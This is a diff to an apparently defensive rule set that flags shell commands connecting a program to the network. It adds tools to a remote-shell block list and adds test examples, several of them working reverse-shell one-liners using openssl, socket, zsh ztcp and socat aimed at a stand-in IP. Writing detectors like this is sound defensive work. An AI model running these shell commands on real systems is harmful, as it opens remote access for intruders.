@@ -43,9 +43,13 @@ function sendsSecret(call: Call): boolean {
 export const REMOTE_RULES: readonly ProgramRule[] = [
   {
     ruleId: "network.remote-shell",
-    programs: names("nc ncat netcat nc.traditional nc.openbsd socat pwncat cryptcat sbd rcat"),
+    programs: names("nc ncat netcat nc.traditional nc.openbsd socat pwncat cryptcat sbd rcat socket ztcp openssl telnet"),
     message: "It connects a shell or a program of this machine to the network",
     applies: (call) => {
+      if (call.input.isShell === true) return true;
+      if (call.name === "openssl" || call.name === "telnet") return false;
+      if (call.name === "ztcp") return call.args.length > 0;
+      if (call.name === "socket") return hasFlag(call, "p");
       if (call.name === "socat") return has(call, /(?:^|[,:!])(?:exec|system|shell|pty)\b/i);
       return hasFlag(call, call.name === "cryptcat" ? "e" : "ec", ["exec", "sh-exec", "lua-exec"]) && !hasFlag(call, "h", ["help"]);
     },
@@ -58,8 +62,20 @@ export const REMOTE_RULES: readonly ProgramRule[] = [
       "socat tcp-connect:1.2.3.4:1 exec:'bash -li',pty,stderr",
       "ncat -l 80 --sh-exec 'cat x'",
       "socat TCP-LISTEN:1,fork SYSTEM:sh",
+      "mkfifo f; sh -i < f 2>&1 | openssl s_client -quiet -connect 1.2.3.4:443 > f",
+      "socket -svp '/bin/sh -i' 12345",
+      "zsh -c 'zmodload zsh/net/tcp; ztcp 1.2.3.4 9; zsh <&$REPLY'",
     ],
-    not: ["nc -zv localhost 5432", "nc -l 8080", "nc example.com 80", "socat TCP-LISTEN:8080,fork TCP:localhost:80", "ncat -z host 22"],
+    not: [
+      "openssl s_client -connect x.example:443",
+      "echo QUIT | openssl s_client -connect x.example:443",
+      "bash report.sh | nc localhost 99",
+      "nc -zv localhost 5432",
+      "nc -l 8080",
+      "nc example.com 80",
+      "socat TCP-LISTEN:8080,fork TCP:localhost:80",
+      "ncat -z host 22",
+    ],
   },
   {
     ruleId: "exfiltration.secret",
